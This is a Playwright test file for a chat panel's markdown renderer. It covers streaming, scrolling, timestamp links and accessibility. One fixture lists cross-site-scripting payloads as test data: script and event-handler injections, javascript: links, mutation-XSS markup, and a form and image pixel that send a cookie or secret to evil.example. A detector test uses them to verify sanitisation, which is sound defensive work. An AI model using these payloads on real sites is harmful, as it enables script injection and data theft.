"""The panel's text: how it comes, how it is set, and what of a hostile model reaches the page."""

import asyncio
import json
from collections.abc import AsyncIterator

import pytest
from playwright.async_api import Browser, expect

from playhead.events import EmitDelta, TextDelta
from tests.server.browsing import say
from tests.server.panels import Stage, held, staged

pytestmark = pytest.mark.anyio

MARKDOWN = """# Head

Some **bold**, *slanted*, ~~gone~~ and `code`, [a link](https://example.com/a) and https://example.com/b

- one
  - two
- [x] done

| Part | From |
|---|---:|
| Opening | 0:00 |

```python
print("0:42")
```

> said"""

HOSTILE = """<img src=x onerror="window.owned=1"><script>window.owned=1</script>

<svg onload="window.owned=1"><style>* { display: none }</style></svg>

<form action="https://evil.example"><input name="cookie"><button>Go</button></form>
<iframe srcdoc="<script>parent.owned=1</script>"></iframe>
<a id="log" name="panel" href="javascript:owned=1">x</a>

[one](javascript:window.owned=1) [two](JaVaScRiPt&#58;owned=1)
[three](data:text/html,<script>owned=1</script>)
[four](vbscript:x) [five](/logout) ![pixel](https://evil.example/?secret=1)
[six](https://ok.example/ "x\" onclick=\"owned=1")

```html" onmouseover="owned=1
<script>window.owned=1</script>
```

| <img src=x onerror=owned=1> | b |
|---|---|
| <b onclick="owned=1">x</b> | [q]: javascript:owned=1

<!-- --><math><mtext></form><form><mglyph><style></math><img src onerror=owned=1>"""


@pytest.fixture(scope="module")
async def stage(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Stage]:
    async with staged(tmp_path_factory.mktemp("home")) as stage:
        yield stage


async def test_02_no_half_made_markdown_is_shown(stage: Stage, browser: Browser) -> None:
    """Whatever a text breaks off in, none of its marks is seen, and what was set stays as it was."""
    async with stage.page(browser) as page:
        shown = await page.evaluate(
            """async (text) => {
              const { Markdown } = await import("/panel/markdown.js");
              const { texts } = await import("/panel/assets.js");
              const node = document.createElement("div");
              const markdown = new Markdown(node, texts());
              const seen = [];
              for (let at = 1; at <= text.length; at++) {
                const first = node.firstChild;
                markdown.show(text.slice(0, at), at === text.length);
                seen.push([node.textContent, at < 12 || node.firstChild === first]);
              }
              const whole = document.createElement("div");
              new Markdown(whole, texts()).show(text, true);
              return { seen, same: whole.innerHTML === node.innerHTML, html: whole.innerHTML };
            }""",
            MARKDOWN,
        )
        assert shown["same"], "the end is the same as of a text that came at once"
        marks = ("**", "~~", "](", "|", "```", "#")
        assert [text for text, _ in shown["seen"] if any(mark in text for mark in marks)] == []
        assert all(kept for _, kept in shown["seen"]), "what is finished is not made anew"


async def test_03_the_end_is_followed_only_from_the_end(stage: Stage, browser: Browser) -> None:
    stage.puppet.plays["long"] = [held(stage, "line\n\n" * 60, "and the end")]
    stage.go.clear()
    async with stage.page(browser, viewport={"width": 500, "height": 500}) as page:
        await say(page, "long")
        log = page.locator("#log")
        gap = "log => log.scrollHeight - log.scrollTop - log.clientHeight"
        await expect(page.locator(".assistant p")).to_have_count(60)
        await expect(page.locator(".assistant p").last).to_be_in_viewport()
        assert await log.evaluate(gap) < 60
        await log.hover()
        await page.mouse.wheel(0, -800)
        await expect(page.locator("#jump")).to_be_visible()
        place = await log.evaluate("log => log.scrollTop")
        stage.go.set()
        await expect(page.locator(".assistant")).to_contain_text("and the end")
        assert await log.evaluate("log => log.scrollTop") == place
        await page.click("#jump")
        await expect(page.locator("#jump")).to_be_hidden()
        assert await log.evaluate(gap) < 60


async def test_04_a_selection_outlives_what_comes(stage: Stage, browser: Browser) -> None:
    """In a block that is finished, and in the one that is being written."""
    stage.puppet.plays["select"] = [held(stage, "First block.\n\nThe second", " goes on and on.")]
    stage.go.clear()
    async with stage.page(browser) as page:
        await say(page, "select")
        await expect(page.locator(".assistant p")).to_have_count(2)
        await page.evaluate(
            """() => {
              const [first, last] = inside(".assistant").querySelectorAll("p");
              getSelection().setBaseAndExtent(first.firstChild, 0, last.firstChild, 10);
              window.ends = [first.firstChild, last.firstChild];
            }"""
        )
        stage.go.set()
        await expect(page.locator(".assistant p").last).to_have_text("The second goes on and on.")
        assert await page.evaluate("ends.every((node) => node.isConnected)")
        assert await page.evaluate("ends[1].data") == "The second goes on and on."


async def test_19_times_seek_the_player(stage: Stage, browser: Browser) -> None:
    """In text, in ranges, with and without brackets, in results; by keyboard; named for who cannot see."""
    text = "See 1:02, [1:00:03], 0:10–0:20 and `0:30`; not 10:30 pm, 12:345, http://x.y/1:02 or 3:4."
    stage.puppet.plays["times"] = [[("transcript", {})], text]
    async with stage.page(browser) as page:
        await say(page, "times")
        times = page.locator(".assistant .time")
        await expect(times).to_have_text(["1:02", "1:00:03", "0:10–0:20"])
        assert await times.first.get_attribute("aria-label") == "Play from 1:02"
        assert await times.last.get_attribute("aria-label") == "Play from 0:10 to 0:20"
        await times.nth(1).click()
        await times.last.focus()
        await page.keyboard.press("Enter")
        await page.locator(".tool summary", has_text="film.mp4").click()
        await page.locator(".lines .time").nth(1).click()
        told = [detail for name, detail in await page.evaluate("told") if name == "seek"]
        assert told == [
            {"ms": 3_603_000},
            {"ms": 10_000, "end_ms": 20_000},
            {"ms": 2_000, "end_ms": 4_000, "asset_id": "a1"},
        ]


async def test_22_markdown_as_it_is_known(stage: Stage, browser: Browser) -> None:
    stage.puppet.plays["markdown"] = [MARKDOWN]
    async with stage.page(browser, permissions=["clipboard-read", "clipboard-write"]) as page:
        await say(page, "markdown")
        body = page.locator(".assistant")
        await expect(body.locator("blockquote")).to_have_text("said")
        for tag in ("h1", "strong", "em", "del", "li li", "input:checked"):
            await expect(body.locator(tag)).to_have_count(1)
        await expect(body.locator("td").last).to_have_css("text-align", "end")
        links = await body.locator("a").evaluate_all("all => all.map((a) => [a.href, a.rel, a.target])")
        assert [href for href, _, _ in links] == ["https://example.com/a", "https://example.com/b"]
        assert all("noopener" in rel and target == "_blank" for _, rel, target in links)
        await expect(body.locator(".code-head span").first).to_have_text("python")
        await expect(body.locator("pre .time")).to_have_count(0)
        await body.locator("button.copy").click()
        await expect(body.locator("button.copy")).to_have_text("Copied")
        assert await page.evaluate("navigator.clipboard.readText()") == 'print("0:42")\n'


@pytest.mark.parametrize(
    "text",
    [
        ">" * 6_000 + " quoted",
        "".join("  " * depth + "- item\n" for depth in range(600)),
        "_a" * 15_000,
        "[" * 20_000 + "](x)" * 5_000,
    ],
    ids=["quotes", "lists", "emphasis", "links"],
)
async def test_23_a_text_that_no_parser_is_made_for_breaks_nothing(
    text: str, stage: Stage, browser: Browser
) -> None:
    """It is shown as it is written, also while it is, and the conversation goes on, also after a reload."""
    stage.puppet.plays["odd"] = [f"{text}\n\nlast words"]
    async with stage.page(browser) as page:
        await say(page, "odd")
        await expect(page.locator(".assistant")).to_contain_text("last words")
        await expect(page.locator("#stop")).to_be_hidden()
        await say(page, "and then?")
        await expect(page.locator(".assistant").last).to_have_text("You said: and then?")
        await page.reload()
        await expect(page.locator(".assistant").last).to_have_text("You said: and then?")
        await expect(page.locator(".assistant").first).to_contain_text("last words")


async def test_23_24_a_hostile_model_writes_text(stage: Stage, browser: Browser) -> None:
    """Scripts, handlers, addresses that run, clobbering names, remote pictures: none of it, at any moment.

    The page asks no other host, which `tabs_of` sees to, and its policy would complain on the console.
    """
    stage.puppet.plays["hostile"] = [[("break_it", {"what": HOSTILE})], HOSTILE]
    async with stage.page(browser) as page:
        await say(page, "hostile")
        await expect(page.locator("#stop")).to_be_hidden()
        await expect(page.locator(".assistant")).to_contain_text("mglyph")
        found = await page.evaluate(
            """async (text) => {
              const { Markdown } = await import("/panel/markdown.js");
              const { texts } = await import("/panel/assets.js");
              const node = document.createElement("div");
              const bad = new Set();
              const look = (root) => {
                for (const one of root.querySelectorAll("*")) {
                  const wrong = /^(script|style|iframe|img|form|object|embed|video|math|base|link)$/i;
                  if (wrong.test(one.nodeName)) bad.add(one.nodeName);
                  for (const { name, value } of one.attributes) {
                    if (/^on|^style$|^id$|^name$|^src|action/.test(name)) bad.add(name);
                    if (name === "href" && !/^(https?:|mailto:)/.test(value)) bad.add(value);
                  }
                }
              };
              const markdown = new Markdown(node, texts());
              for (let at = 1; at <= text.length; at += 3) {
                markdown.show(text.slice(0, at), false);
                look(node);
              }
              panel.shadowRoot.querySelectorAll(".assistant, .tool").forEach(look);
              const found = [...inside(".assistant").querySelectorAll("a")];
              const links = found.map((a) => a.getAttribute("href"));
              return { bad: [...bad], links, owned: window.owned ?? 0, title: document.title };
            }""",
            HOSTILE,
        )
        assert (found["bad"], found["owned"], found["title"]) == ([], 0, "Host")
        assert set(found["links"]) == {"https://evil.example/?secret=1", "https://ok.example/"}
        assert await page.locator("img, iframe, form:not(#composer), object").count() == 0


async def test_01_the_first_token_is_shown_before_there_is_a_second(stage: Stage, browser: Browser) -> None:
    """It waits for nothing but a frame. How long that takes is in `make bench`."""
    stage.puppet.plays["first"] = [held(stage, "One", " two")]
    stage.go.clear()
    async with stage.page(browser) as page:
        await say(page, "first")
        await expect(page.locator(".assistant")).to_have_text("One")
        await expect(page.locator(".assistant")).to_have_attribute("aria-busy", "true")
        stage.go.set()
        await expect(page.locator(".assistant")).to_have_text("One two")
        await expect(page.locator(".assistant")).not_to_have_attribute("aria-busy", "true")


async def test_32_a_text_is_read_out_once_and_not_as_it_grows(stage: Stage, browser: Browser) -> None:
    stage.puppet.plays["read"] = [held(stage, "Half of it", " and the **rest**.")]
    stage.go.clear()
    async with stage.page(browser) as page:
        await page.evaluate(
            """() => {
              window.read = [];
              new MutationObserver(() => read.push(inside("#spoken").textContent))
                .observe(inside("#spoken"), { childList: true, characterData: true, subtree: true });
            }"""
        )
        await say(page, "read")
        await expect(page.locator(".assistant")).to_have_text("Half of it")
        stage.go.set()
        await expect(page.locator("#spoken")).to_have_text("Half of it and the rest.")
        assert await page.evaluate("read") == ["Half of it and the rest."]
        log = page.locator("#log")
        assert [await log.get_attribute(name) for name in ("role", "aria-live", "aria-label")] == [
            "log",
            "off",
            "Conversation",
        ]
        assert await page.locator("#status").get_attribute("role") == "status"
        assert await page.locator("[role=alert]:visible").count() == 0
        await page.reload()
        await expect(page.locator(".assistant")).to_have_text("Half of it and the rest.")
        await expect(page.locator("#spoken")).to_have_text("")


async def test_many_deltas_are_drawn_a_frame_at_a_time(stage: Stage, browser: Browser) -> None:
    """A long answer in small pieces is whole at the end, and is set in far fewer steps than it came in."""
    words = [f"word {n} " if n % 40 else f"\n\nPart **{n}**: " for n in range(2_500)]

    async def pour(emit: EmitDelta) -> str:
        for n, word in enumerate(words):
            emit(TextDelta(text=word))
            if n % 25 == 0:
                await asyncio.sleep(0)
        return "".join(words)

    stage.puppet.plays["pour"] = [pour]
    async with stage.page(browser) as page:
        await page.evaluate(
            """() => {
              window.draws = 0;
              const { draw } = panel.view.constructor.prototype;
              panel.view.draw = function (state) { draws++; return draw.call(this, state); };
            }"""
        )
        await say(page, "pour")
        await expect(page.locator(".assistant")).to_contain_text("word 2499")
        assert json.loads(await page.evaluate("panel.export('json')"))["items"][-1]["text"] == "".join(words)
        assert await page.evaluate("draws") < 500
